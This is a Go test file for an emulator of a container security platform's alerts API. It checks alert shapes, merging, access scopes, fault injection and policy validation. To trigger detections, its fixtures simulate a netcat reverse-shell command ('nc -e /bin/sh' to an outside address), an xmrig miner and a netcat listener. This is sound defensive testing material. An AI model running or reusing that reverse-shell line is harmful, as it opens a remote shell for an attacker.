package acsemulator

import (
	"context"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/modelguard/modelguard/pkg/acs"
)

const (
	servingUID = "5f0c7a2e-3b1d-4c8e-9a6f-2d4b8e1c7f90"
	canaryUID  = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"
)

func servingWorkload(uid, name string) Workload {
	return Workload{UID: uid, Name: name, Namespace: "fraud-prod",
		Labels:     map[string]string{"serving.kserve.io/inferenceservice": "granite"},
		Containers: []WorkloadContainer{{Name: "kserve-container", Image: "quay.io/acme-ml/sentiment-serving:1.4.0@" + cleanDigest}}}
}

func alertsPath(query string, extra ...string) string {
	v := url.Values{"query": {query}}
	for i := 0; i+1 < len(extra); i += 2 {
		v.Set(extra[i], extra[i+1])
	}
	return "/v1/alerts?" + v.Encode()
}

// Every runtime answer has the shape of its fixture, which pkg/acs decodes.
func TestRuntimeShapesMatchFixtures(t *testing.T) {
	s := startExample(t)
	must(t, s.AddDeployment(servingWorkload(servingUID, "granite-predictor")))
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/nc", Args: "-e /bin/sh 203.0.113.7 4444", UID: 1001}))
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/xmrig", Args: "-o pool"}))
	all := alertsPath("Deployment ID:" + servingUID + "+Violation State:ACTIVE,ATTEMPTED,RESOLVED")
	list := call(t, s, "GET", all, testToken, nil)
	if list.status != 200 {
		t.Fatalf("alerts = %d %s", list.status, list.raw)
	}
	assertShape(t, "alerts-runtime-deployment.json", list.json(t))
	var killed string
	for _, a := range dig(t, list.json(t), "alerts").([]any) {
		if dig(t, a, "enforcementAction") == "KILL_POD_ENFORCEMENT" {
			killed = dig(t, a, "id").(string)
		}
	}
	full := call(t, s, "GET", "/v1/alerts/"+killed, testToken, nil)
	assertShape(t, "alert-runtime-process-violation.json", full.json(t))
	for path, fixtureName := range map[string]string{
		"/v1/deployments/" + servingUID:                                          "deployment-granite-predictor.json",
		"/v1/processcount?query=" + url.QueryEscape("Deployment ID:"+servingUID): "processcount.json",
		"/v1/processes/deployment/" + servingUID + "/grouped/container":          "processes-grouped-container.json",
		"/v1/clusters/" + s.ClusterID():                                          "cluster-health-healthy.json",
	} {
		r := call(t, s, "GET", path, testToken, nil)
		if r.status != 200 {
			t.Fatalf("%s = %d %s", path, r.status, r.raw)
		}
		assertShape(t, fixtureName, r.json(t))
	}
	for path, fixtureName := range map[string]string{
		"/v1/deployments/" + canaryUID: "error-404-deployment-not-found.json",
	} {
		r := call(t, s, "GET", path, testToken, nil)
		if r.status != 404 {
			t.Fatalf("%s = %d %s", path, r.status, r.raw)
		}
		assertShape(t, fixtureName, r.json(t))
	}
}

// The client in pkg/acs reads what the emulator writes, and the emulator
// behaves as Central on the points a runtime gate depends on.
func TestRuntimeLifecycleThroughTheClient(t *testing.T) {
	s := startExample(t)
	c := client(t, s, testToken)
	ctx := context.Background()
	s.SetRuntimeDelays(300*time.Millisecond, 600*time.Millisecond)
	must(t, s.AddDeployment(servingWorkload(servingUID, "granite-predictor")))
	must(t, s.AddDeployment(servingWorkload(canaryUID, "granite-predictor-canary")))

	// Not reported yet: 404, and the processes with it.
	if _, err := c.GetDeployment(ctx, servingUID); !acs.IsNotFound(err) {
		t.Fatalf("before the delay: %v", err)
	}
	if _, err := c.ProcessesByContainer(ctx, servingUID); !acs.IsNotFound(err) {
		t.Fatalf("processes before the delay: %v", err)
	}
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/modelguard", Args: "serve"}))
	must(t, s.Exec(Process{DeploymentUID: canaryUID, Container: "kserve-container", ExecPath: "/usr/bin/nc", Args: "-l 4444"}))
	time.Sleep(350 * time.Millisecond)
	d, err := c.GetDeployment(ctx, servingUID)
	if err != nil || d.Name != "granite-predictor" || d.ClusterID != s.ClusterID() || d.Containers[0].Image.ID != cleanDigest {
		t.Fatalf("after the delay: %+v %v", d, err)
	}
	if n, err := c.ProcessCount(ctx, servingUID); err != nil || n != 0 {
		t.Fatalf("indicators are flushed later than the deployment: %d %v", n, err)
	}
	time.Sleep(300 * time.Millisecond)
	if n, err := c.ProcessCount(ctx, servingUID); err != nil || n != 1 {
		t.Fatalf("count after the flush: %d %v", n, err)
	}

	// By UID, the canary's netcat alert is not the serving deployment's;
	// by name, Central's prefix match would mix them up.
	q := acs.AlertQuery{DeploymentID: servingUID, States: acs.AllAlertStates}
	if as, err := c.ListAlerts(ctx, q); err != nil || len(as) != 0 {
		t.Fatalf("serving alerts: %+v %v", as, err)
	}
	byName := call(t, s, "GET", alertsPath("Deployment:granite-predictor"), testToken, nil)
	if n := len(dig(t, byName.json(t), "alerts").([]any)); n != 1 {
		t.Errorf("a name query finds %d alerts; Central's prefix match finds the canary's", n)
	}
	// A misspelt field is dropped: the query widens to every alert.
	typo := call(t, s, "GET", alertsPath("Deploymnet ID:"+servingUID), testToken, nil)
	if n := len(dig(t, typo.json(t), "alerts").([]any)); n != 1 {
		t.Errorf("typo query found %d alerts, want the canary's one (the field dropped)", n)
	}
	if r := call(t, s, "GET", alertsPath("Deployment ID:granite"), testToken, nil); r.status != 500 {
		t.Errorf("a non-UUID Deployment ID = %d (ListAlerts returns parse errors as 500)", r.status)
	}

	// One open alert per policy and deployment: a second netcat merges.
	first := time.Now().Add(-time.Second)
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/bin/nc", Args: "a", Time: first}))
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/bin/nc", Args: "b"}))
	as, err := c.ListAlerts(ctx, q)
	if err != nil || len(as) != 1 || !as[0].Time.After(first) {
		t.Fatalf("merged alerts: %+v %v", as, err)
	}
	full, err := c.GetAlert(ctx, as[0].ID)
	if err != nil || len(full.ProcessViolation.Processes) != 2 || full.ProcessViolation.Processes[1].Signal.Args != "b" {
		t.Fatalf("merged evidence: %+v %v", full, err)
	}

	// A resolved alert is hidden unless the states are named.
	must(t, s.ResolveAlert(as[0].ID))
	if r := call(t, s, "GET", alertsPath("Deployment ID:"+servingUID), testToken, nil); len(dig(t, r.json(t), "alerts").([]any)) != 0 {
		t.Errorf("RESOLVED shown without a Violation State term: %s", r.raw)
	}
	if as, err := c.ListAlerts(ctx, q); err != nil || len(as) != 1 || as[0].State != acs.AlertResolved {
		t.Errorf("with the states named: %+v %v", as, err)
	}

	// Removing the deployment: Central forgets it, its runtime alerts stay.
	s.RemoveDeployment(canaryUID)
	if _, err := c.GetDeployment(ctx, canaryUID); !acs.IsNotFound(err) {
		t.Errorf("removed deployment: %v", err)
	}
	if as, err := c.ListAlerts(ctx, acs.AlertQuery{DeploymentID: canaryUID, States: acs.AllAlertStates}); err != nil || len(as) != 1 || !as[0].Deployment.Inactive || as[0].State != acs.AlertActive {
		t.Errorf("runtime alert of a removed deployment: %+v %v", as, err)
	}
}

// A saturated alert (40 processes) absorbs nothing: Central skips the merge
// and its time stays put (acs-runtime.md §5 pitfall 4).
func TestSaturatedAlertIsNotBumped(t *testing.T) {
	s := startExample(t)
	must(t, s.AddDeployment(servingWorkload(servingUID, "granite-predictor")))
	base := time.Now().Add(-time.Hour)
	for i := 0; i < maxAlertProcesses; i++ {
		must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/nc", Args: strings.Repeat("x", i+1), Time: base.Add(time.Duration(i) * time.Second)}))
	}
	before := s.Alerts(servingUID)
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/nc", Args: "new"}))
	after := s.Alerts(servingUID)
	if len(after) != 1 || after[0].Processes != maxAlertProcesses || !after[0].Time.Equal(before[0].Time) {
		t.Fatalf("before %+v, after %+v", before, after)
	}
}

// A role without Alert read gets 403; a role whose access scope leaves out
// the namespace gets an empty list and 404s, exactly like "nothing there".
func TestRuntimeTokensAndScopes(t *testing.T) {
	s := startExample(t)
	must(t, s.AddDeployment(servingWorkload(servingUID, "granite-predictor")))
	must(t, s.Exec(Process{DeploymentUID: servingUID, Container: "kserve-container", ExecPath: "/usr/bin/nc"}))
	runtimeRead := map[string]string{"Alert": "READ_ACCESS", "Deployment": "READ_ACCESS", "DeploymentExtension": "READ_ACCESS", "Cluster": "READ_ACCESS"}
	s.AddToken("ci-only", map[string]string{"Image": "READ_WRITE_ACCESS", "Detection": "READ_ACCESS"})
	s.AddToken("other-namespace", runtimeRead, "fraud-dev")
	ctx := context.Background()
	q := acs.AlertQuery{DeploymentID: servingUID, States: acs.AllAlertStates}

	if _, err := client(t, s, "ci-only").ListAlerts(ctx, q); !acs.IsPermissionDenied(err) || !strings.Contains(err.Error(), "Alert read") {
		t.Errorf("Continuous Integration role: %v", err)
	}
	p, err := client(t, s, "ci-only").MyPermissions(ctx)
	if err != nil || p.ResourceToAccess["Alert"] != "" {
		t.Errorf("ci-only permissions: %+v %v", p, err)
	}
	scoped := client(t, s, "other-namespace")
	if as, err := scoped.ListAlerts(ctx, q); err != nil || len(as) != 0 {
		t.Errorf("scoped token: %+v %v", as, err)
	}
	if _, err := scoped.GetDeployment(ctx, servingUID); !acs.IsNotFound(err) {
		t.Errorf("scoped token, deployment: %v", err)
	}
	if p, err := scoped.MyPermissions(ctx); err != nil || p.ResourceToAccess["Alert"] != acs.ReadAccess {
		t.Errorf("scoped token's permissions show the level, not the scope: %+v %v", p, err)
	}
	if as, err := client(t, s, testToken).ListAlerts(ctx, q); err != nil || len(as) != 1 {
		t.Errorf("the data file's token: %+v %v", as, err)
	}
}

// Faults are injected on runtime paths as on the scan's, and the cluster's
// health can turn.
func TestRuntimeFaultsAndHealth(t *testing.T) {
	s := startExample(t)
	c := client(t, s, testToken)
	ctx := context.Background()
	must(t, s.AddDeployment(servingWorkload(servingUID, "granite-predictor")))
	s.FailNext("/v1/alerts", 2, 503, "", ErrorBody(codeUnavailable, "central restarting"))
	s.RateLimitNext("/v1/deployments/"+servingUID, 1)
	if _, err := c.ListAlerts(ctx, acs.AlertQuery{DeploymentID: servingUID, States: acs.AllAlertStates}); err != nil || s.Calls("/v1/alerts") != 3 {
		t.Errorf("503 twice: %v after %d calls", err, s.Calls("/v1/alerts"))
	}
	if _, err := c.GetDeployment(ctx, servingUID); err != nil {
		t.Errorf("429 then 200: %v", err)
	}
	s.SetRuntimeLatency(300 * time.Millisecond)
	start := time.Now()
	if _, err := c.GetDeployment(ctx, servingUID); err != nil || time.Since(start) < 300*time.Millisecond {
		t.Errorf("runtime latency: %v after %s", err, time.Since(start))
	}
	s.SetRuntimeLatency(0)
	must(t, s.SetClusterHealth(s.ClusterID(), "", "UNHEALTHY"))
	cl, err := c.GetCluster(ctx, s.ClusterID())
	if err != nil || cl.HealthStatus.CollectorHealthStatus != acs.HealthUnhealthy || cl.HealthStatus.SensorHealthStatus != acs.HealthHealthy {
		t.Errorf("unhealthy collector: %+v %v", cl, err)
	}
	if err := s.SetClusterHealth(s.ClusterID(), "GREAT", ""); err == nil {
		t.Error("an unknown health status was accepted")
	}
}

func TestRuntimeDataValidation(t *testing.T) {
	for _, tc := range []struct{ yaml, want string }{
		{"runtimePolicies: [{name: x, severity: HIGH, match: {}}]", "runtimePolicies[0].match: set at least one"},
		{"runtimePolicies: [{name: x, severity: HUGE, match: {processName: nc}}]", "runtimePolicies[0].severity"},
		{"runtimePolicies: [{name: x, severity: HIGH, enforcement: SCALE_TO_ZERO_ENFORCEMENT, match: {processName: nc}}]", "runtimePolicies[0].enforcement[0]"},
		{"runtimePolicies: [{name: x, severity: HIGH, match: {processName: '('}}]", "runtimePolicies[0].match.processName"},
		{"clusters: [{id: prod, name: prod}]", "clusters[0].id"},
		{"clusters: [{id: 6f9d4c1e-2b7a-4e3f-9c8d-1a2b3c4d5e6f, name: a, sensorHealth: OK}]", "clusters[0].sensorHealth"},
	} {
		if _, err := Parse([]byte(tc.yaml)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err %v, want %q", tc.yaml, err, tc.want)
		}
	}
}

func client(t *testing.T, s *Server, token string) *acs.Client {
	t.Helper()
	c, err := acs.New(acs.Config{Endpoint: s.Endpoint, Token: token, CACert: s.CAPEM, RetryBaseDelay: time.Millisecond, RetryMaxDelay: 5 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
